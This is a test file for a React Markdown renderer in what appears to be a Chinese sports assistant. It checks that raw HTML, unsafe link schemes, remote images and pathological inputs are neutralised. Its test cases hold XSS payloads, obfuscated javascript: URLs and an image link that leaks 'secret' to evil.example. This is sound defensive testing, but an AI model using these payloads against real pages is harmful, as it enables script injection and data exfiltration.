import { renderWithStore } from '@saidian/shared/testing'
import { screen, within } from '@testing-library/react'
import { SOURCE } from '../../../testing/assistant.factory'
import { Markdown } from './markdown'

const show = (text: string, unsourced: string[] = []) =>
  renderWithStore(<Markdown text={text} sources={[SOURCE]} unsourced={unsourced} />).container

test('headings, lists, quotes, code and tables are elements', () => {
  const container = show(
    [
      '# 曼城',
      '第一段 *斜* **粗** `码`',
      '> 引用',
      '- 一\n- 二',
      '3. 三\n4. 四',
      '```\n<b>x</b>\n```',
      '| 队 | 分 |\n| - | - |\n| 曼城 | 21 |',
      '---',
    ].join('\n\n'),
  )
  expect(screen.getByRole('heading', { name: '曼城', level: 3 })).toBeVisible()
  expect(container.querySelector('em')).toHaveTextContent('斜')
  expect(container.querySelector('blockquote')).toHaveTextContent('引用')
  expect(screen.getAllByRole('list')).toHaveLength(2)
  expect(container.querySelector('ol')).toHaveAttribute('start', '3')
  expect(container.querySelector('pre')).toHaveTextContent('<b>x</b>')
  const table = within(screen.getByRole('region', { name: '表格' })).getByRole('table')
  expect(within(table).getByRole('columnheader', { name: '分' })).toBeVisible()
  expect(within(table).getByRole('cell', { name: '21' })).toBeVisible()
})

test.each([
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<div onclick="alert(1)">\n\n**x**\n\n</div>',
  'a <svg/onload=alert(1)> b',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<!-- --><style>*{display:none}</style>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '<https://evil.example/<img src=x>>',
])('HTML is text: %s', (text) => {
  const container = show(text)
  expect(container.querySelector('script, img, svg, iframe, style, [onclick]')).toBeNull()
  expect(container).toHaveTextContent(/alert\(1\)|display|evil/)
})

test.each([
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java&#115;cript:alert(1)',
  'java&Tab;script:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:x',
  'http://evil.example/',
  '//evil.example/x',
  '/\\evil.example',
  '/..//evil.example',
  'https://me:secret@evil.example/',
  'https:evil.example',
  'ftp://evil.example',
  'live/hot',
  '#place',
])('a link to %s is its text', (url) => {
  const container = show(`[看这里](<${url}>)`)
  expect(container.querySelector('a')).toBeNull()
  expect(container).toHaveTextContent('看这里')
})

test('a link inside the product opens there, one to another site says which', () => {
  show('[比赛](/live/zq/detail/7) 和 [官网](https://club.example/a)')
  expect(screen.getByRole('link', { name: '比赛' })).toHaveAttribute('href', '/live/zq/detail/7')
  const out = screen.getByRole('link', { name: '官网（club.example）' })
  expect(out).toHaveAttribute('rel', 'noopener noreferrer nofollow')
  expect(out).toHaveAttribute('target', '_blank')
})

test.each(['![看我](https://evil.example/?leak=secret)', '[p]: https://evil.example/\n![看我][p]'])(
  'a picture is never fetched: %s',
  (text) => {
    const container = show(text)
    expect(container.querySelector('img, a')).toBeNull()
    expect(container).toHaveTextContent('［图：看我］')
  },
)

test('a definition cannot exchange the number of a source into a link elsewhere', () => {
  show('第一[1]\n\n[1]: https://evil.example/')
  expect(screen.getByRole('link', { name: '来源1：英超积分榜' })).toHaveAttribute(
    'href',
    SOURCE.link,
  )
  const container = show('第一[1]\n[1]: https://evil.example/')
  expect(container.querySelector('[href*=evil]')).toBeNull()
})

test('a number without a source is text, inside a link too', () => {
  const container = show('[2] 与 [看 [1]](/live/hot)')
  expect(container).toHaveTextContent('[2] 与 看 [1]')
  expect(screen.getAllByRole('link')).toHaveLength(1)
})

test('marks figures without a source, also in a table', () => {
  show('胜率 87%，进 3 球，13 场\n\n| a |\n| - |\n| 87% |', ['87%', '3'])
  expect(screen.getAllByTitle('非本站数据').map((mark) => mark.firstChild?.textContent)).toEqual([
    '87%',
    '3',
    '87%',
  ])
})

const LONG: Record<string, string> = {
  quotes: '>'.repeat(6_000),
  lists: '- '.repeat(3_000),
  brackets: '['.repeat(6_000),
  links: '[a]('.repeat(1_500),
  stars: '*a **b '.repeat(800),
  pictures: '![['.repeat(2_000),
  columns: `${'|a'.repeat(2_500)}\n${'|-'.repeat(450)}`,
  references: '&amp;'.repeat(1_200),
  ticks: Array.from({ length: 100 }, (_, n) => '`'.repeat(n)).join('a'),
  marks: `a${'\u0300'.repeat(5_900)}`,
  whole: '字'.repeat(40_000),
}

test.each(Object.keys(LONG))(
  'a hostile text of %s neither throws nor nests without an end',
  (key) => {
    const container = show(LONG[key] ?? '')
    expect(container).not.toBeEmptyDOMElement()
    expect(container.querySelectorAll('blockquote, li').length).toBeLessThan(60)
  },
)
